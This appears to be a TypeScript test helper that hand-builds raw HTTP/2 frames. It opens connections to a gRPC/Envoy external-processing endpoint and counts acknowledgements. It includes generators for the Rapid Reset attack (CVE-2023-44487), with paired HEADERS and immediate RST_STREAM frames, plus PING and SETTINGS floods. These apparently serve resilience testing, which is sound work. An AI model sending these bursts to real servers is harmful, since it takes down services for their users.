/** HTTP/2 as bytes (RFC 9113): what no well-behaved client would send, and what comes back. */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

const rstStream = 3;
const settings = 4;
const ping = 6;
const headBytes = 9;
const acknowledgement = 1;

/** A connection with the preface and empty settings sent. Unread, it takes in what its socket holds and no more. */
export async function openConnection(address: string): Promise<Socket> {
  const [host, port] = address.split(':');
  const socket = connect({ host: host!, port: Number(port) });
  socket.on('error', () => {});
  await once(socket, 'connect');
  socket.write(
    Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(settings, 0, 0)]),
  );
  return socket;
}

/** Reads on and counts the acknowledgements of pings and settings. */
export function countAcknowledgements(socket: Socket, heard: () => void): void {
  let received = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    received = Buffer.concat([received, chunk]);
    let start = 0;
    while (received.length - start >= headBytes) {
      const end = start + headBytes + received.readUIntBE(start, 3);
      if (end > received.length) break;
      const type = received[start + 3];
      const isAcknowledged = (received[start + 4]! & acknowledgement) !== 0;
      if ((type === ping || type === settings) && isAcknowledged) heard();
      start = end;
    }
    received = received.subarray(start);
  });
}

/** RFC 9113 section 4.1. */
function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(headBytes);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** POST, http, path, authority, content-type, te; literals without indexing (RFC 7541 section 6.2.2). */
const callHeaders = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  literal(Buffer.from([0x04]), '/envoy.service.ext_proc.v3.ExternalProcessor/Process'),
  literal(Buffer.from([0x01]), 'twinspan'),
  literal(Buffer.from([0x0f, 0x10]), 'application/grpc'),
  literal(Buffer.concat([Buffer.from([0x00, 2]), Buffer.from('te')]), 'trailers'),
]);

function literal(name: Buffer, value: string): Buffer {
  return Buffer.concat([name, Buffer.from([value.length]), Buffer.from(value)]);
}

/** Calls `from` and on, each with its reset at once (CVE-2023-44487). */
export function resetFrames(from: number, howMany: number): Buffer {
  const cancel = Buffer.from([0, 0, 0, 8]);
  const frames: Buffer[] = [];
  for (let index = from; index < from + howMany; index += 1) {
    const stream = 2 * index + 1;
    frames.push(frame(1, 4, stream, callHeaders), frame(rstStream, 0, stream, cancel));
  }
  return Buffer.concat(frames);
}

export function pingFrames(_from: number, howMany: number): Buffer {
  return Buffer.concat(Array.from({ length: howMany }, () => frame(ping, 0, 0, Buffer.alloc(8))));
}

/** Each wants to be acknowledged. */
export function settingsFrames(_from: number, howMany: number): Buffer {
  return Buffer.concat(
    Array.from({ length: howMany }, () => frame(settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
  );
}
